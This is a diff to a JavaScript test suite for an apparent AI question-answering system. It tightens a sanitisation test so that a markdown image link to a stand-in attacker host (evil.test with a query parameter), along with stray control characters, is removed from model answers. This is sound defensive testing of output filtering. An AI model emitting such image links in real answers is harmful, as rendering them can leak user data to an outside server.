@@ -98,7 +98,7 @@ describe('faults', () => {
   test('what no table can hold and no reader should load is taken out of an answer', async () => {
     ai.script(says([cite('Three\u0000 \ud800![](https://evil.test/?q=hearts).', 'three hearts')]));
     const { answer } = await ask('How many hearts, with an image?');
-    expect(answer).toBe('Three \ufffd[] (https://evil.test/?q=hearts). [1]');
+    expect(answer).toBe('Three \ufffd. [1]');
   });
 
   test('the budget is hit in the middle: failed with its reason, nothing more is spent, and no question is taken', async () => {
